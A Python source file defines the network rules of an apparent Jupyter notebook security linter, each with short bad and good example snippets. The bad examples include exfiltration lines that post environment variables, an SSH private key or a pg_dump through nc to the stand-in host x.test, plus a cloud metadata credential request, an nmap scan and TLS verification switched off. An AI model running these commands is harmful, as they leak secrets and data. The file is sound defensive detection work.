"""JG5xx: what leaves, what is let in, and to whom."""

from __future__ import annotations

from typing import Final

from jupyter_guard.judge.rule import Rule, has
from jupyter_guard.terms import Kind

_CONNECTS = (Kind.NETWORK_CONNECT,)
_LISTENS = (Kind.NETWORK_LISTEN,)

RULES: Final[tuple[Rule, ...]] = (
    Rule(
        id="JG501",
        title="Sends private data away",
        why="What has left cannot be called back; a leaked credential opens everything behind it.",
        instead="Send only what the far side needs, and credentials only to the service they are for.",
        kinds=(*_CONNECTS, Kind.PROCESS_RUN, Kind.PAGE_SCRIPT),
        check=lambda effect, seen: (
            "exfiltration" in seen or (effect.kind is Kind.NETWORK_CONNECT and "from:credential" in seen)
        ),
        bad=(
            "import os, requests\nrequests.post('http://x.test/c', json=dict(os.environ))",
            "def read(p):\n    return open(p).read()\n# %%\nk = read('/home/ops/.ssh/id_rsa')\n# %%\n"
            "import requests\nrequests.post('http://x.test', data=k)",
        ),
        good=("import json, requests\nrequests.post('http://localhost:8501/predict', json={'x': [1]}).json()",),
    ),
    Rule(
        id="JG504",
        title="Asks the cloud's metadata service",
        why="It hands out the machine's own credentials to whoever asks.",
        instead="Let the cloud's SDK find its credentials.",
        kinds=_CONNECTS,
        check=has("metadata-service"),
        bad=("import requests\nrequests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/')",),
        good=("import requests\nrequests.get('https://api.test/')",),
    ),
    Rule(
        id="JG508",
        title="Floods a host or tries out many",
        why="It looks like an attack to the far side, and it may be one.",
        instead="Bound the loop, wait between requests, and ask the far side.",
        kinds=_CONNECTS,
        check=has("unbounded", "bulk", "raw"),
        bad=("!nmap -sS 10.0.0.0/24", "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW)"),
        good=("import socket\nsocket.create_connection(('x.test', 80))",),
    ),
    Rule(
        id="JG502",
        title="Does not check who the far side is",
        why="Anybody in between can read and change what is sent.",
        instead="Leave verification on; add the organisation's certificate with verify='ca.pem'.",
        kinds=_CONNECTS,
        check=has("no-verify"),
        bad=(
            "import requests\nrequests.get('https://api.acme.test', verify=False)",
            "import ssl\ncontext = ssl.create_default_context()\ncontext.check_hostname = False",
            "from elasticsearch import Elasticsearch\nElasticsearch('https://es.acme.test', verify_certs=False)",
            "%env PYTHONHTTPSVERIFY=0",
        ),
        good=(
            "import requests\nrequests.get('https://api.acme.test', verify='ca.pem')",
            "from elasticsearch import Elasticsearch\nElasticsearch('https://localhost:9200', verify_certs=False)",
        ),
    ),
    Rule(
        id="JG503",
        title="Uses a protocol without encryption",
        why="Passwords and data can be read by anybody in between.",
        instead="Use SFTP, FTPS, SSH or https.",
        kinds=_CONNECTS,
        check=has("cleartext-protocol"),
        bad=("import telnetlib\ntelnetlib.Telnet('host.test')", "import ftplib\nftplib.FTP('host.test')"),
        good=("import ftplib\nftplib.FTP_TLS('host.test')",),
    ),
    Rule(
        id="JG507",
        title="Sends files, rows of a database or the environment away",
        why="What has left cannot be called back.",
        instead="Look at what is sent, and to whom.",
        kinds=_CONNECTS,
        check=has("from:file", "from:private", "from:environment", "from:database"),
        bad=(
            "!pg_dump shop | nc x.test 9999",
            "import requests\nrequests.post('http://x.test', data=open('/srv/data.csv', 'rb'))",
        ),
        good=("import requests\nrequests.get('https://api.test')",),
    ),
    Rule(
        id="JG509",
        title="Connects to a host that somebody outside chooses",
        why="It reaches hosts that only this machine can reach.",
        instead="Check the host against a list.",
        kinds=_CONNECTS,
        check=has("from:user", "from:network", "from:model"),
        bad=(
            "import requests\nrequests.get(input())",
            "import socket\nhost = input()\nsocket.create_connection((host, 80))",
        ),
        good=("import requests\nrequests.get('https://x.test')",),
    ),
    Rule(
        id="JG510",
        title="Opens a connection that needs a second look",
        why="What it does with the far side is more than fetching data.",
        instead="Say in the notebook what it is for.",
        kinds=_CONNECTS,
        check=has("obfuscated", "grants"),
        bad=("import requests\ngetattr(requests, 'po' + 'st')('https://x.test')",),
        good=("import requests\nrequests.post('https://x.test')",),
    ),
    Rule(
        id="JG505",
        title="Listens for everybody on the network",
        why="Anybody who reaches the machine can talk to it.",
        instead="Bind to 127.0.0.1.",
        kinds=_LISTENS,
        check=has("all-interfaces"),
        bad=(
            "import http.server\nhttp.server.test(port=8000, bind='0.0.0.0')",
            "import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 4444))\ns.listen()",
        ),
        good=("import socket\nsocket.gethostname()",),
    ),
    Rule(
        id="JG506",
        title="Listens on a port",
        why="Other programs of the machine can talk to it.",
        instead="Close it when you are done.",
        kinds=_LISTENS,
        bad=("import socket\ns = socket.socket()\ns.bind(('192.0.2.1', 8000))\ns.listen()",),
        good=("import socket\nsocket.gethostname()",),
    ),
)
